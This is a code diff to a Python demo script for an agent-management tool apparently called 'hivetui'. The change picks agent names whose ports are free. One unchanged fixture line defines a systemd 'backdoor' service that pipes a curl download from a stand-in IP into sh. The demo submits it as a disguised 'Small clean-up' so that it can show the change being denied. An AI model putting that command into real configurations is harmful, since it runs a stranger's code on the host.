@@ -15,10 +15,12 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import NamedTuple
 
 from hivetui.cli import render
-from hivetui.engine import hive
+from hivetui.engine import hive, names, ports
 from hivetui.engine.errors import CannotCreate, HiveError
+from hivetui.engine.host import Host
 from hivetui.engine.interface import Hive
 from hivetui.engine.models import Operation, OperationKind, OperationState
 from hivetui.engine.operators import from_environment
@@ -32,7 +34,7 @@ GREETING = """\
 { pkgs, ... }:
 {
   environment.systemPackages = [ pkgs.ripgrep pkgs.jq ];
-  environment.variables.GREETING = "hello from iris";
+  environment.variables.GREETING = "hello";
 }
 """
 TYPO = """\
@@ -47,6 +49,30 @@ TOO_MUCH = """\
   systemd.services.backdoor.script = "curl -s http://198.51.100.7/x | sh";
 }
 """
+
+
+class Cast(NamedTuple):
+    """Who plays. `late` has the port of `early`: the two can never run together."""
+
+    reader: str
+    writer: str
+    early: str
+    late: str
+
+
+_READERS, _WRITERS = ("iris", "ivan", "jade", "karl"), ("alice", "anna", "bob", "emma")
+_PAIRS = (("olivia", "qa"), ("lena", "frances"), ("paul", "ada"), ("build", "nora"))
+
+
+def cast(host: Host) -> Cast:
+    """The first of each whose port nobody has: on this machine there may be another hive."""
+    taken = ports.listeners(host)
+
+    def free(name: str) -> bool:
+        return names.port_of(name) not in taken
+
+    pair = next((pair for pair in _PAIRS if free(pair[0])), _PAIRS[0])
+    return Cast(next(filter(free, _READERS), _READERS[0]), next(filter(free, _WRITERS), _WRITERS[0]), *pair)
 
 
 class Manager:
@@ -101,7 +127,7 @@ def home(keep: str | None) -> Iterator[Path]:
 async def _tour(folder: Path, say: Say) -> None:
     settings = Settings(deploy=DeploySection(health_seconds=1))
     opened = await hive.open_embedded(folder, settings, os.environ, from_environment(os.environ))
-    story = Story(opened, Manager(opened.host.places.agents), say)
+    story = Story(opened, Manager(opened.host.places.agents), cast(opened.host), say)
     try:
         await story.tell()
     finally:
@@ -111,8 +137,8 @@ async def _tour(folder: Path, say: Say) -> None:
 class Story:
     """The story, scene by scene, on a hive that is empty at its beginning."""
 
-    def __init__(self, opened: Hive, manager: Manager, say: Say) -> None:
-        self._hive, self._manager, self._say = opened, manager, say
+    def __init__(self, opened: Hive, manager: Manager, who: Cast, say: Say) -> None:
+        self._hive, self._manager, self._who, self._say = opened, manager, who, say
 
     async def tell(self) -> None:
         """All scenes in order."""
@@ -123,14 +149,14 @@ class Story:
     async def spawn(self) -> None:
         """Three agents are made, side by side."""
         self._title("Three agents")
-        await asyncio.gather(*(self._begin(name) for name in ("alice", "iris", "olivia")))
+        await asyncio.gather(*map(self._begin, self._who[:3]))
         await self._show_agents()
 
     async def approve(self) -> None:
         """A change is proposed, read, approved, built and deployed."""
-        self._title("The manager proposes a change for iris")
-        commit = self._manager.commit("iris", GREETING, "Give iris ripgrep, jq and a greeting")
-        proposal = await self._hive.submit("iris", commit, "iris searches a lot")
+        self._title(f"The manager proposes a change for {self._who.reader}")
+        commit = self._manager.commit(self._who.reader, GREETING, "Add ripgrep, jq and a greeting")
+        proposal = await self._hive.submit(self._who.reader, commit, "It searches a lot.")
         await self._show_review(proposal.id)
         self._say("\nThe operator approves exactly that commit. It is built before anything is touched:\n")
         review = await self._hive.review(proposal.id)
@@ -138,18 +164,18 @@ class Story:
 
     async def fail(self) -> None:
         """A change that does not build leaves the agent as it was."""
-        self._title("A proposal for alice that does not build")
-        commit = self._manager.commit("alice", TYPO, "Give alice ripgrep")
-        proposal = await self._hive.submit("alice", commit)
+        self._title(f"A proposal for {self._who.writer} that does not build")
+        commit = self._manager.commit(self._who.writer, TYPO, "Add ripgrep")
+        proposal = await self._hive.submit(self._who.writer, commit)
         await self._follow(await self._hive.approve(proposal.id, commit, proposal.base))
         ended = (await self._hive.review(proposal.id)).proposal
-        self._say(f"\nProposal {ended.id} is {ended.state.value}, and alice runs on as she was.")
+        self._say(f"\nProposal {ended.id} is {ended.state.value}, and {self._who.writer} runs on as it was.")
 
     async def deny(self) -> None:
         """A change is read and refused."""
-        self._title("A proposal for alice that nobody should approve")
-        commit = self._manager.commit("alice", TOO_MUCH, "Small clean-up")
-        proposal = await self._hive.submit("alice", commit, "nothing to see here")
+        self._title(f"A proposal for {self._who.writer} that nobody should approve")
+        commit = self._manager.commit(self._who.writer, TOO_MUCH, "Small clean-up")
+        proposal = await self._hive.submit(self._who.writer, commit, "nothing to see here")
         await self._show_review(proposal.id)
         denied = await self._hive.deny(proposal.id, "It downloads and runs a script of a stranger.")
         self._say(f"\nProposal {denied.id} is {denied.state.value}: {safe(denied.note or '')}")
@@ -157,9 +183,9 @@ class Story:
     async def collide(self) -> None:
         """Two names can share a port, and then only one of them can run."""
         self._title("An agent whose port is taken")
-        self._say("$ hivetui spawn qa")
+        self._say(f"$ hivetui spawn {self._who.late}")
         try:
-            await self._begin("qa")
+            await self._begin(self._who.late)
         except HiveError as refusal:
             for line in str(refusal).splitlines():
                 self._say(f"  {safe(line)}")
